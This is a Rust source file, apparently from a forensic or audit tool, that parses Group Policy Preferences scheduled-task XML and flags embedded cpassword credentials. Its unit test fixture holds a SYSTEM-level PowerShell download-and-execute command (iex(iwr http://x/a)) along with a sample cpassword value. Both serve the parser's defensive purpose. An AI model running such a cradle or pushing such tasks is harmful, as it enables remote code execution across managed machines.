//! Group Policy Preferences `ScheduledTasks.xml`: tasks a GPO pushes to every computer or user it
//! applies to (legacy `Task`, `ImmediateTask`, and the V2 forms that embed a full task definition).

use super::task_xml::{self, TaskDefinition};
use super::text::decode;
use super::xml::{self, Element, XmlError};
use serde::Serialize;
use std::collections::BTreeMap;

/// One task item of a GPP file.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct GppTask {
    /// Element kind: `Task`, `ImmediateTask`, `TaskV2`, `ImmediateTaskV2`.
    pub kind: String,
    /// `name` attribute.
    pub name: String,
    /// `changed` attribute as written (`2023-05-02 01:14:42`, UTC).
    pub changed: Option<String>,
    /// `uid` attribute.
    pub uid: Option<String>,
    /// `Properties@action`: C, R, U or D.
    pub action: Option<String>,
    /// Program (`appName`), for legacy items.
    pub app_name: Option<String>,
    /// Arguments (`args`).
    pub args: Option<String>,
    /// Working directory (`startIn`).
    pub start_in: Option<String>,
    /// Account (`runAs`).
    pub run_as: Option<String>,
    /// `enabled` attribute.
    pub enabled: Option<bool>,
    /// A `cpassword` attribute is present (an AES-encrypted password whose key Microsoft
    /// published: anyone who can read SYSVOL can decrypt it).
    pub cpassword_present: bool,
    /// Every Properties attribute (cpassword value withheld), for details.
    pub properties: BTreeMap<String, String>,
    /// Legacy triggers, each as its attribute map.
    pub triggers: Vec<BTreeMap<String, String>>,
    /// The embedded task definition of V2 items.
    pub definition: Option<TaskDefinition>,
}

impl GppTask {
    /// The command line the pushed task runs.
    pub fn command(&self) -> String {
        if let Some(d) = &self.definition {
            return d.command();
        }
        let app = self.app_name.clone().unwrap_or_default();
        match self.args.as_deref().filter(|a| !a.is_empty()) {
            Some(a) => format!("{app} {a}"),
            None => app,
        }
    }

    /// Who it runs as.
    pub fn user(&self) -> String {
        if let Some(u) = self.run_as.as_deref().filter(|u| !u.is_empty()) {
            return u.to_string();
        }
        self.definition
            .as_ref()
            .map(|d| d.user())
            .unwrap_or_default()
    }

    /// Trigger summary.
    pub fn schedule(&self) -> String {
        if self.kind.starts_with("Immediate") {
            return "Immediately when the policy applies".into();
        }
        if let Some(d) = &self.definition {
            return d.schedule();
        }
        self.triggers
            .iter()
            .map(|t| {
                let g = |k: &str| t.get(k).cloned().unwrap_or_default();
                let mut s = g("type");
                if !g("startHour").is_empty() {
                    s.push_str(&format!(
                        " at {:0>2}:{:0>2} from {}-{:0>2}-{:0>2}",
                        g("startHour"),
                        g("startMinutes"),
                        g("beginYear"),
                        g("beginMonth"),
                        g("beginDay")
                    ));
                }
                s
            })
            .collect::<Vec<_>>()
            .join(" | ")
    }
}

/// Why a file is not a GPP scheduled-tasks file.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum GppError {
    /// Not XML.
    #[error("{0}")]
    Xml(#[from] XmlError),
    /// Root element is not `ScheduledTasks`.
    #[error("root element is <{0}>, not <ScheduledTasks>")]
    NotGpp(String),
}

fn attrs(e: &Element) -> BTreeMap<String, String> {
    e.attrs.iter().cloned().collect()
}

/// Parses a `ScheduledTasks.xml` file.
pub fn parse(bytes: &[u8]) -> Result<Vec<GppTask>, GppError> {
    let text = decode(bytes).text;
    let root = xml::parse(&text)?;
    if root.name != "ScheduledTasks" {
        return Err(GppError::NotGpp(root.name));
    }
    let mut out = Vec::new();
    for item in root.children.iter().filter(|c| c.name.contains("Task")) {
        let props = item.child("Properties");
        let mut p = props.map(attrs).unwrap_or_default();
        let cpassword_present = p.remove("cpassword").is_some_and(|v| !v.is_empty());
        let get = |k: &str| p.get(k).cloned();
        let triggers = props
            .and_then(|pr| pr.child("Triggers"))
            .map(|t| t.children.iter().map(attrs).collect())
            .unwrap_or_default();
        let definition = props
            .and_then(|pr| pr.child("Task"))
            .map(task_xml::from_element);
        out.push(GppTask {
            kind: item.name.clone(),
            name: item.attr("name").unwrap_or_default().to_string(),
            changed: item.attr("changed").map(str::to_string),
            uid: item.attr("uid").map(str::to_string),
            action: get("action"),
            app_name: get("appName"),
            args: get("args"),
            start_in: get("startIn"),
            run_as: get("runAs"),
            enabled: get("enabled")
                .map(|v| v == "1" || v.eq_ignore_ascii_case("true"))
                .or_else(|| definition.as_ref().map(|d| d.settings.enabled)),
            cpassword_present,
            properties: p,
            triggers,
            definition,
        });
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn v2_item_with_embedded_task() {
        let x = r#"<ScheduledTasks clsid="{CC63F200-7309-4ba0-B154-A71CD118DBCC}"><ImmediateTaskV2 clsid="{9756B581-76EC-4169-9AFC-0CA8D43ADB5F}" name="push" changed="2024-01-02 03:04:05" uid="{1}"><Properties action="C" name="push" runAs="NT AUTHORITY\System" logonType="S4U" cpassword="j1Uyj3Vx8TY9LtLZil2uAuZkFQA/4latT76ZwgdHdhw"><Task version="1.3"><Principals><Principal id="Author"><UserId>NT AUTHORITY\System</UserId></Principal></Principals><Actions Context="Author"><Exec><Command>powershell.exe</Command><Arguments>-nop -c iex(iwr http://x/a)</Arguments></Exec></Actions></Task></Properties></ImmediateTaskV2></ScheduledTasks>"#;
        let t = &parse(x.as_bytes()).unwrap()[0];
        assert_eq!(t.kind, "ImmediateTaskV2");
        assert_eq!(t.command(), "powershell.exe -nop -c iex(iwr http://x/a)");
        assert_eq!(t.user(), "NT AUTHORITY\\System");
        assert!(t.cpassword_present);
        assert!(!t.properties.contains_key("cpassword"));
        assert_eq!(t.schedule(), "Immediately when the policy applies");
        assert!(matches!(parse(b"<Task/>"), Err(GppError::NotGpp(_))));
    }
}
